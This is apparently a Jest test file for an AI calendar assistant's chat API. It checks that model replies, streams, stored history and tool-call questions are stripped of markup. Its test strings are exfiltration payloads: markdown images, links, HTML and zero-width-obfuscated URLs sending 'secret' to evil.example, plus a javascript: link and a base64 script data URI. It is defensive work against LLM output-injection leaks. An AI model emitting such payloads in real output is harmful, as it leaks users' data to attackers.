import { describe, expect, it } from '@jest/globals';
import { ModelServer } from '../support/model-server.js';
import type { ChatReply, Conversation } from '../../src/modules/ai/dto/chat.dto.js';
import { MARKUP_ATTACKS } from '../support/markup-attacks.js';
import { expectNoMarkup } from '../support/rendering.js';
import { AiWorld, anEvent, type SentEvent } from './ai-world.js';

const model = ModelServer.shared();
const world = AiWorld.sharedWith(model);

/** The words of a stream, one behind the other. */
function deltasOf(events: readonly SentEvent[]): string {
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- what `text` events hold
  return events.flatMap(({ event, data }) => (event === 'text' ? [(data as { delta: string }).delta] : [])).join('');
}

describe('what leaves in a reply', () => {
  it.each([
    ['an image', 'See ![x](https://evil.example/?d=secret) now'],
    ['a link', 'See [here](https://evil.example/secret) now'],
    ['an autolink', 'See <https://evil.example/secret> now'],
    ['a bare address', 'See https://evil.example/secret now'],
    ['one without a scheme', 'See //evil.example/secret or www.evil.example/secret now'],
    ['a bare domain with a path', 'See evil.example/secret now'],
    ['a wide dot', 'See evil。example/secret now'],
    ['a number for a host', 'See 192.0.2.7/secret now'],
    ['HTML', 'See <img src="https://evil.example/secret"> <a href=javascript:alert(1)>x</a> now'],
    ['data', 'See data:text/html;base64,PHNjcmlwdD4= now'],
    ['a reference', 'See [x][1] now\n[1]: https://evil.example/secret'],
    ['one in pieces', 'See ht\u200Btps://evil.example/secret now'],
  ])('%s becomes plain words, streamed or not, and nothing is fetched', async (_case, text) => {
    const user = await world.user();
    model.plays([{ text: Array.from(text) }]);

    const { reply } = await user.chat('hi');
    const events = await user.stream('hi');

    for (const words of [reply, JSON.stringify(events)]) {
      expect(words).not.toMatch(/:\/\/|\]\(|!\[|<img|<a |javascript:|data:text|secret|PHNjcmlwdD4/i);
    }
    expect(reply).toMatch(/^See [^]* now/);
  });

  it.each([
    ['as it is', (text: string) => [text]],
    ['in pieces of one character', (text: string) => Array.from(text)],
    ['in pieces with controls between', (text: string) => Array.from(text, (piece) => `${piece}\r`)],
    ['in pieces with invisible characters between', (text: string) => Array.from(text, (piece) => `${piece}\uFEFF`)],
  ])(
    'no attack on a renderer gets through the reply, its stream, its history or its questions: %s',
    async (_case, piecesOf) => {
      const user = await world.user();
      for (const attack of MARKUP_ATTACKS) {
        const question = { question: attack, field: attack.slice(0, 64), options: [attack] };
        model.plays([
          { text: piecesOf(`See ${attack}\n\n${attack}`), calls: [{ name: 'ask_user', arguments: question }] },
        ]);

        const events = await user.stream('hi');
        // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- what `done` holds
        const done = events.at(-1)?.data as ChatReply;
        const { body } = await user.call<Conversation>('GET', `/ai/conversations/${done.conversationId}`);

        expectNoMarkup(deltasOf(events));
        expectNoMarkup(done.reply);
        expect(done.questions).toHaveLength(1);
        for (const { question: asked, field, options = [] } of done.questions)
          [asked, field, ...options].forEach(expectNoMarkup);
        for (const { content } of body.messages) expectNoMarkup(content);
      }
    },
  );

  it.each([
    ['before the answer', '<think>The user greets me.\nI greet back.</think>\n\nHello there.'],
    ['between words', 'Hello <thinking>secret plan</thinking>there.'],
    ['in other letters and spaces', '< Think >secret plan</ THINK >Hello there.'],
    ['that never end', 'Hello there.<think>secret plan'],
    ['whose beginning is missing', '</think>Hello there.'],
  ])('thoughts %s are not shown, streamed or not', async (_case, text) => {
    const user = await world.user();
    model.plays([{ text: Array.from(text) }]);

    const { reply } = await user.chat('hi');
    const events = await user.stream('hi');

    const streamed = events.flatMap(({ event, data }) => (event === 'text' ? [JSON.stringify(data)] : [])).join('');
    expect(reply.trim()).toBe('Hello there.');
    expect(streamed).not.toMatch(/think|secret|greet/i);
  });

  it('a sign that opens nothing stays', async () => {
    const user = await world.user();
    model.plays([{ text: Array.from('2 < 3 and <') }]);

    expect((await user.chat('hi')).reply).toBe('2 < 3 and <');
  });

  it('a question of the model is cleaned as well', async () => {
    const user = await world.user();
    const question = { question: 'See https://evil.example/secret?', options: ['![x](https://evil.example/secret)'] };
    model.plays([{ calls: [{ name: 'ask_user', arguments: question }] }]);

    const { questions } = await user.chat('hi');

    expect(questions).toHaveLength(1);
    expect(JSON.stringify(questions)).not.toMatch(/secret|:\/\//);
  });

  it('the instructions hold nothing worth stealing', async () => {
    const user = await world.user([anEvent({ summary: 'Private matter' })]);
    model.plays([{ text: 'Hello.' }]);

    await user.chat('hi');

    const told = (model.requests[0]?.messages ?? []).map(({ content }) => content).join('\n');
    expect(told).toContain('calendar assistant');
    for (const secret of [user.email, user.token, 'Private matter', world.google.url]) {
      expect(told).not.toContain(secret);
    }
  });
});
